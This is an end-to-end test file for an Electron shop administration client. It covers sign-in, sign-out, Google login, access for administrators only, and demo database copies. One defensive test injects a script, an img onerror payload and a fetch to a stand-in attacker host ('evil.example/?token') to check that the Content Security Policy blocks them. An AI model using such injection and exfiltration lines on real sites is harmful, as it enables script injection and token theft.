import path from 'node:path';
import { expect, type Page, test } from '@playwright/test';
import BetterSqlite3 from 'better-sqlite3';
import { expectAccessible } from '#e2e/support/axe.ts';
import { submitSignIn } from '#e2e/support/sign-in.ts';
import type { AppWindow } from '#electron/e2e/support/app-window.ts';
import { type GoogleStandIn, startGoogle } from '#electron/e2e/support/google.ts';
import { allOrders, firstStart, openDemo } from '#electron/e2e/support/steps.ts';
import { demoAdmin, demoCustomer } from '#server/demo/accounts.ts';
import { demoProducts } from '#server/demo/catalogue/products.ts';
import { demoSeries } from '#server/demo/catalogue/series/all-series.ts';
import { adminMessages } from '#shared/messages/shop/admin.ts';
import {
  addressProblems,
  connectMessages,
  desktopMessages,
  googleMessages,
} from '#shared/messages/shop/desktop-application.ts';
import { navigationMessages, themeMessages } from '#shared/messages/shop/navigation.ts';
import { loginMessages } from '#shared/messages/users/login.ts';

test.describe.configure({ mode: 'serial' });

let app: AppWindow;
let page: Page;
let google: GoogleStandIn;
let copy = '';

test.beforeAll(async ({ browser }) => {
  google = await startGoogle();
  app = await firstStart(browser, { google: google.options, saveFile: async () => copy });
  page = app.page;
});
test.afterEach(() => app.forget());
test.afterAll(async () => {
  await app.close();
  google.close();
});

test('the first start checks an address, opens the demo shop and shows All Orders to an administrator', async () => {
  await expectAccessible(page);
  await page.getByLabel(connectMessages.address).fill('http://shop.example.com');
  await page.getByRole('button', { name: connectMessages.connect, exact: true }).click();
  await expect(page.getByText(addressProblems.insecure)).toBeVisible();

  await openDemo(page);
  // The application opens only https addresses in the browser.
  await expect(page.getByRole('link', { name: navigationMessages.demoMail })).toHaveCount(0);
  await submitSignIn(page, demoAdmin.email);
  await expect(allOrders(page)).toBeVisible();
  await expect(page.getByRole('row').nth(5)).toBeVisible();

  await app.navigate('/dashboard/manageproduct');
  await expect(page.getByRole('heading', { name: adminMessages.manageProducts, level: 1 })).toBeVisible();
  const picture = page.locator('main img').first();
  await expect.poll(() => picture.evaluate((image: HTMLImageElement) => image.naturalWidth)).toBeGreaterThan(0);

  await page.evaluate(() =>
    window.bulkheadDesktop?.notify({ title: 'New order', body: '5 pieces', path: '/dashboard/allorders' }),
  );
  await page.evaluate(() => window.bulkheadDesktop?.setBadge({ count: 2 }));
  const announced = { title: 'New order', body: '5 pieces', path: '/dashboard/allorders' };
  expect(app.notifications).toContainEqual(announced);
  await app.navigate(announced.path);
  await expect(allOrders(page)).toBeVisible();
  expect(app.badges).toContain(2);
  expect(app.complaints).toEqual([]);
});

test('signing out deletes all stored data but the theme, and signing in works again', async () => {
  const theme = page.getByRole('combobox', { name: themeMessages.label });
  await theme.selectOption(themeMessages.dark);
  await page.getByRole('button', { name: navigationMessages.signOut }).click();
  await expect(page.getByRole('heading', { name: loginMessages.title, level: 1 })).toBeVisible();
  await expect.poll(() => app.badges.at(-1)).toBe(0);
  await expect
    .poll(() => page.evaluate(() => [Object.keys(localStorage), Object.keys(sessionStorage)]))
    .toEqual([['theme'], []]);

  await submitSignIn(page, demoAdmin.email);
  await expect(allOrders(page)).toBeVisible();
  await page.reload();
  await expect(allOrders(page)).toBeVisible();
  await expect(theme).toHaveValue('dark');
  expect(await page.evaluate(() => getComputedStyle(document.body).backgroundColor)).toBe('rgb(12, 19, 27)');
  await theme.selectOption(themeMessages.system);
});

test('signs a customer out with the message that only administrators may enter', async () => {
  await page.getByRole('button', { name: navigationMessages.signOut }).click();
  await submitSignIn(page, demoCustomer.email);
  await expect(page.getByText(desktopMessages.staffOnly)).toBeVisible();
  await expect(page.getByRole('heading', { name: loginMessages.title, level: 1 })).toBeVisible();
  expect(await page.evaluate(() => localStorage.getItem('accessToken'))).toBeNull();
  await page.reload();
  await expect(page.getByRole('heading', { name: loginMessages.title, level: 1 })).toBeVisible();
});

test("a sign-in in the user's browser can be cancelled and tried again", async () => {
  await page.route('**/api/config', async (route) => {
    const response = await route.fetch();
    await route.fulfill({ response, json: { ...(await response.json()), demo: false } });
  });
  await page.reload();
  google.userAgrees = false;
  const button = page.getByRole('button', { name: loginMessages.google });
  for (let attempt = 0; attempt < 2; attempt++) {
    await button.click();
    await expect(page.getByText(loginMessages.googleElsewhere)).toBeVisible();
    await page.getByRole('button', { name: loginMessages.cancelGoogle, exact: true }).click();
    await expect(page.getByText(loginMessages.googleElsewhere)).toHaveCount(0);
    await expect(page.getByRole('alert').filter({ hasText: googleMessages.cancelled })).toBeVisible();
    await expect(button).not.toHaveAttribute('aria-busy', 'true');
  }
});

test("Google's sign-in opens the user's browser and signs in to the application", async () => {
  google.userAgrees = true;
  await page.getByRole('button', { name: loginMessages.google }).click();
  await expect(allOrders(page)).toBeVisible();
});

test('blocks foreign scripts and requests to foreign origins', async () => {
  const attempt = await page.evaluate(async () => {
    const script = document.createElement('script');
    script.textContent = 'window.stolen = true';
    document.body.append(script);
    const image = document.createElement('div');
    image.innerHTML = '<img src="x" onerror="window.stolen = true">';
    document.body.append(image);
    const sent = await fetch('https://evil.example/?token').then(
      () => true,
      () => false,
    );
    return { stolen: 'stolen' in window, sent };
  });
  expect(attempt).toEqual({ stolen: false, sent: false });
  expect(app.complaints.filter((text) => text.includes('Content Security Policy')).length).toBeGreaterThanOrEqual(3);
});

test('a copy of the demo shop is complete, and starting over restores the sample data', async () => {
  copy = path.join(app.folder, 'copy.sqlite');
  const products = [...demoProducts, ...demoSeries.flatMap((series) => series.products)];
  expect(await page.evaluate(() => window.bulkheadDesktop?.saveDemoCopy())).toEqual({ status: 'done' });
  const copied = new BetterSqlite3(copy, { readonly: true });
  expect(copied.pragma('integrity_check', { simple: true })).toBe('ok');
  expect(copied.prepare('select count(*) as count from products').get()).toEqual({ count: products.length });
  copied.close();
  expect(await page.evaluate(() => window.bulkheadDesktop?.startDemoOver())).toEqual({ status: 'done' });
});
